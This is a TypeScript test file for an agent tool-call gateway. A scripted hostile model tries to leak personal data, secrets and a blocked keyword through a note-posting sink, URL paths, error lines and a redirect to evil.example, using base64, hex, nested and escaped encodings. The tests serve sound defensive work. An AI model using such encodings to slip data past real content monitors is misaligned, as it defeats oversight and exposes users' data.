import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import type { ContentRule } from '../../src/domain/policy.ts'
import { createScriptedTool } from '../support/scripted-tool.ts'
import { type Canary, okAnswer, startCanary } from './canary.ts'
import { encoders, hidingShare, mayBeGlued, samples, survives } from './encodings.ts'
import { callsOnce, type HostileCall } from './hostile-model.ts'
import { type Attempted, type HostileWorld, openHostileWorld } from './open-hostile-world.ts'
import { createPostNote } from './sink-tools.ts'

let canary: Canary
let world: HostileWorld
const agents: Partial<Record<ContentRule, string>> = {}
/** What `look_up` answers, by number. */
let records: readonly string[] = []

beforeAll(async () => {
  canary = await startCanary()
  const lookUp = createScriptedTool('look_up', ({ text }) => records[Number(text)] ?? 'nothing', { access: 'read' })
  world = await openHostileWorld({
    openNetwork: {},
    tools: [createPostNote(canary.port), lookUp],
    limits: { tool_calls_per_step_max: 2_000 },
  })
  for (const rule of ['redact', 'block', 'allow'] as const) {
    const content = { personal_data: rule, secrets: rule, blocked_keywords: ['operation nightjar'] }
    const labels_of_findings = { personal_data: ['personal'], secret: ['secret'], keyword: ['nightjar'] }
    agents[rule] = (await world.addAgent({}, { document: { content, labels_of_findings } })).id
  }
})
afterAll(async () => {
  await world.close()
  await canary.close()
})
beforeEach(() => {
  canary.take()
  canary.answer = okAnswer
})

/** What the canary heard, as text. */
const heard = () => Buffer.from(canary.take(), 'latin1').toString('utf8')
const note = (token: string): HostileCall => ({ tool: 'post_note', args: { text: `note ${token} end` } })
const hides = (token: string, sample: string) => token !== sample

function expectHandled(rule: ContentRule, detector: string, tried: Attempted | undefined, what: string): void {
  const denied = rule === 'block' || detector === 'keyword'
  expect(tried?.settled.facts.outcome, what).toBe(denied ? 'denied' : 'settled')
  expect(tried?.decided?.facts.rules, what).toContain(`content:${detector}`)
  expect(tried?.decided?.facts.answer, what).toBe(denied ? 'deny' : 'allow')
  // A finding that is recorded holds nothing of what was found.
  expect(
    tried?.inputs?.findings.some((finding) => finding.detector === detector),
    what,
  ).toBe(true)
}

describe.each(['redact', 'block'] as const)('where the policy says %s, in the arguments of a sink', (rule) => {
  test('nothing of the plain samples arrives', async () => {
    const attack = await world.attack(callsOnce(...samples.map(([, sample]) => note(sample))), {
      agent_id: agents[rule],
    })
    const arrived = heard()
    for (const [index, [detector, sample]] of samples.entries()) {
      expect(survives(sample, arrived), sample).toBe(false)
      expectHandled(rule, detector, attack.attempts[index], sample)
    }
  })

  test.each(encoders)('nothing that is written in %s arrives', async (name, encode) => {
    const hidden = samples.filter(([detector]) => !mayBeGlued(name, detector))
    const tokens = hidden.map(([, sample]) => encode(sample))
    const attack = await world.attack(callsOnce(...tokens.map(note)), { agent_id: agents[rule] })
    const arrived = heard()
    for (const [index, [detector, sample]] of hidden.entries()) {
      const token = tokens[index] ?? ''
      expect(survives(token, arrived, hidingShare(name, token)), token).toBe(false)
      expect(survives(sample, arrived), token).toBe(false)
      expectHandled(rule, detector, attack.attempts[index], token)
    }
  })

  test.each(encoders)('nothing that is written in %s of any other encoding arrives', async (outerName, outer) => {
    const hidden = encoders.flatMap(([innerName, inner], index) => {
      const [detector = '', sample = ''] = samples[index % samples.length] ?? []
      const inside = inner(sample)
      const token = outer(inside)
      if (!hides(inside, sample) || !hides(token, inside)) return []
      if (mayBeGlued(outerName, detector) || mayBeGlued(innerName, detector)) return []
      return [{ token, share: hidingShare(innerName, inside) * hidingShare(outerName, token) }]
    })
    if (hidden.length === 0) return
    const attack = await world.attack(callsOnce(...hidden.map(({ token }) => note(token))), { agent_id: agents[rule] })
    const arrived = heard()
    for (const [index, { token, share }] of hidden.entries()) {
      const tried = attack.attempts[index]
      expect(
        tried?.decided?.facts.rules.some((name) => name.startsWith('content:')),
        token,
      ).toBe(true)
      expect(survives(token, arrived, share), token).toBe(false)
    }
  })

  test('what was decided on contents can be decided again from the record', async () => {
    const attack = await world.attack(callsOnce(...samples.map(([, sample]) => note(sample))), {
      agent_id: agents[rule],
    })
    expect(await world.verifyAudit(attack)).toMatchObject({
      verdict: 'valid',
      summary: { decisions: { rederived: samples.length, not_rederivable: [] } },
    })
  })

  test('escapes of the arguments themselves hide nothing', async () => {
    const escaped = (text: string) =>
      [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
    const calls = samples.map(([, sample]) => ({ tool: 'post_note', args: `{"text":"note ${escaped(sample)} end"}` }))
    const names = samples.map(([, sample]) => ({
      tool: 'post_note',
      args: `{"\\u0074e\\u0078t":"note ${sample} end"}`,
    }))
    const attack = await world.attack(callsOnce(...calls, ...names), { agent_id: agents[rule] })
    const arrived = heard()
    for (const [index, tried] of attack.attempts.entries()) {
      const [detector = '', sample = ''] = samples[index % samples.length] ?? []
      expect(survives(sample, arrived), sample).toBe(false)
      expectHandled(rule, detector, tried, sample)
    }
  })

  test('what is nested too deeply to be read does not arrive either', async () => {
    const again = (encode: (text: string) => string, times: number) =>
      Array.from({ length: times }).reduce<string>((text) => encode(text), '123-45-6789')
    const base64 = (text: string) => Buffer.from(text).toString('base64')
    const hex = (text: string) => Buffer.from(text).toString('hex')
    const tokens = [5, 6, 8].flatMap((times) => [again(base64, times), again(hex, times)])
    const attack = await world.attack(callsOnce(...tokens.map(note)), { agent_id: agents[rule] })
    const arrived = heard()
    for (const [index, token] of tokens.entries()) {
      expect(survives(token, arrived), token).toBe(false)
      expect(attack.attempts[index]?.decided?.facts.rules).toContain('content:encoded_too_deep')
    }
  })

  test('nor does what is in the address of a page', async () => {
    const port = canary.port
    const places = samples.flatMap(([, sample]) => {
      const encoded = encodeURIComponent(sample)
      const [hex, base64] = [Buffer.from(sample).toString('hex'), Buffer.from(sample).toString('base64url')]
      const twice = encodeURIComponent(encoded)
      const forms = [`/${encoded}`, `/?q=${encoded}`, `/a#${encoded}`, `/${hex}/x`, `/?d=${base64}`, `/%2525/${twice}`]
      return forms.map((path, index) => ({
        path,
        sample,
        token: [encoded, encoded, encoded, hex, base64, twice][index],
      }))
    })
    const calls = places.map(({ path }) => ({ tool: 'fetch_url', args: { url: `http://localhost:${port}${path}` } }))
    const attack = await world.attack(callsOnce(...calls), { agent_id: agents[rule] })
    const arrived = heard()
    for (const [index, { path, sample, token = '' }] of places.entries()) {
      expect(survives(token, arrived), path).toBe(false)
      expect(survives(sample, arrived), path).toBe(false)
      const rules = attack.attempts[index]?.decided?.facts.rules ?? []
      expect(
        rules.some((name) => name.startsWith('content:')),
        path,
      ).toBe(true)
    }
  })
})

describe.each(['redact', 'block'] as const)('where the policy says %s, of results', (rule) => {
  const lookUps = (texts: readonly string[]) => {
    records = texts.map((text) => `record ${text} end`)
    return records.map((_, index) => ({ tool: 'look_up', args: { text: `${index}` } }))
  }

  test.each(encoders)('the model is told nothing that is written in %s', async (name, encode) => {
    const hidden = samples.filter(([detector]) => !mayBeGlued(name, detector))
    const tokens = hidden.map(([, sample]) => encode(sample))
    const attack = await world.attack(callsOnce(...lookUps(tokens)), { agent_id: agents[rule] })
    // On the wire a text is JSON.
    const told = attack.told
    for (const [index, [detector, sample]] of hidden.entries()) {
      const token = tokens[index] ?? ''
      const written = JSON.stringify(token).slice(1, -1)
      expect(survives(written, told, hidingShare(name, token)), token).toBe(false)
      expect(survives(sample, told), token).toBe(false)
      const { settled, result } = attack.attempts[index] ?? {}
      expect(settled?.facts.outcome).toBe('settled')
      expect(settled?.contents['findings']).toBeDefined()
      const withheld = rule === 'block' || detector === 'keyword'
      expect(result, token).toContain(withheld ? '[withheld: ' : `[redacted:${detector}]`)
    }
    const labels = attack.attempts.flatMap(({ settled }) => settled.facts.labels ?? [])
    const isGlued = mayBeGlued(name, 'keyword')
    expect(labels.toSorted()).toEqual([...(isGlued ? [] : ['nightjar']), 'personal', 'secret'])
  })

  test('the model is told nothing of a page, nor of the answer to one that fails', async () => {
    const body = samples.map(([, sample]) => sample).join('\n')
    canary.answer = `HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n\r\n<p>${body}</p>`
    const url = `http://localhost:${canary.port}/`
    const page = await world.attack(callsOnce({ tool: 'fetch_url', args: { url } }), { agent_id: agents[rule] })
    canary.answer = `HTTP/1.1 500 ${samples[0]?.[1]}\r\nconnection: close\r\ncontent-length: 0\r\n\r\n`
    const failed = await world.attack(callsOnce({ tool: 'fetch_url', args: { url } }), { agent_id: agents[rule] })
    canary.answer = `HTTP/1.1 302 Found\r\nlocation: http://evil.example/${samples[3]?.[1]}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n`
    const elsewhere = await world.attack(callsOnce({ tool: 'fetch_url', args: { url } }), { agent_id: agents[rule] })
    for (const { told } of [page, failed, elsewhere]) {
      for (const [, sample] of samples) expect(survives(sample, told), sample).toBe(false)
    }
    expect(failed.attempts[0]?.result).toContain(rule === 'redact' ? '[redacted:ssn]' : '[withheld')
  })
})

test('where the policy allows it, what is found arrives, and is on record', async () => {
  const attack = await world.attack(callsOnce(note('123-45-6789')), { agent_id: agents.allow })
  expect(heard()).toContain('note 123-45-6789 end')
  expect(attack.attempts[0]?.inputs?.findings).toMatchObject([{ detector: 'ssn' }])
  expect((await world.verifyAudit(attack)).verdict).toBe('valid')
})
